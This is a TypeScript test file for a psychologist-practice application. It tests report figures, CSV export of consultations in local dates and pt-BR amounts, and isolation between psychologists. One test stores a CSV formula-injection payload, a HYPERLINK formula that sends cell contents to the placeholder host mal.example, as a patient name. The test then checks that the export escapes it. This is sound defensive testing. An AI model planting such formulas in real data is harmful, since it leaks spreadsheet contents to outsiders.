import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { AppServices } from '../src/services.ts';
import { exportConsultations, getReport } from '../src/modules/psychologist/reports/psychologist-reports.service.ts';
import type { TestServer } from './harness.ts';
import { buildSaoPauloDataset, saoPauloNow } from './metrics-dataset.ts';
import { metricsServer } from './metrics-fixtures.ts';

let server: TestServer;
let services: AppServices;
let data: Awaited<ReturnType<typeof buildSaoPauloDataset>>;
beforeAll(async () => {
  ({ server } = await metricsServer('America/Sao_Paulo', saoPauloNow));
  services = server.app.services;
  data = await buildSaoPauloDataset(services.db);
});
afterAll(() => server.close());

describe('psychologist reports', () => {
  test('the report adds the patients\' status split to the metrics module\'s figures', async () => {
    const ana = await getReport(services, data.psychologists.ana, '6m');
    expect(ana.summary).toMatchObject({ consultations: 6, completed: 5, revenueCents: 75000 });
    expect(ana.patientStatus).toEqual({ active: 4, inactive: 0, pending: 0 });
    // Bruno: Artur completed in October and Alice scheduled (Ativos), Xavier no-show and Bia cancelled (Inativos).
    const bruno = await getReport(services, data.psychologists.bruno, '7d');
    expect(bruno.patientStatus).toEqual({ active: 2, inactive: 2, pending: 0 });
  });

  test('the CSV lists the period\'s consultations in local dates, with labels and pt-BR amounts', async () => {
    const csv = await exportConsultations(services, data.psychologists.ana, '7d');
    expect(csv.filename).toBe('consultas_2026-11-18_2026-11-24.csv');
    // 17/11 23:30 local (18/11 in UTC) is outside "7 dias"; 18/11 00:30 local is inside.
    expect(csv.content).toBe(
      '\uFEFFData;Horário;Paciente;Status;Valor (R$)\r\n' +
        '18/11/2026;00:30;Artur Alfa;Concluída;150,00\r\n' +
        '24/11/2026;10:00;Alice Alfa;Agendada;150,00\r\n',
    );
  });

  test('a patient\'s name written as a spreadsheet formula reaches the CSV as text', async () => {
    const formula = '=HYPERLINK("https://mal.example/?"&A2;"Abrir")';
    const renamed = () =>
      services.db.updateTable('users').set({ name: formula }).where('id', '=', data.patients.a1).execute();
    const original = await services.db
      .selectFrom('users')
      .select('name')
      .where('id', '=', data.patients.a1)
      .executeTakeFirstOrThrow();
    await renamed();
    try {
      const csv = await exportConsultations(services, data.psychologists.ana, '7d');
      expect(csv.content).toContain(`;"'=HYPERLINK(""https://mal.example/?""&A2;""Abrir"")";`);
      expect(csv.content).not.toContain(';=HYPERLINK');
    } finally {
      await services.db.updateTable('users').set({ name: original.name }).where('id', '=', data.patients.a1).execute();
    }
  });

  test('another psychologist\'s consultations never appear', async () => {
    const csv = await exportConsultations(services, data.psychologists.eva, '7d');
    expect(csv.content).toBe('\uFEFFData;Horário;Paciente;Status;Valor (R$)\r\n');
  });
});
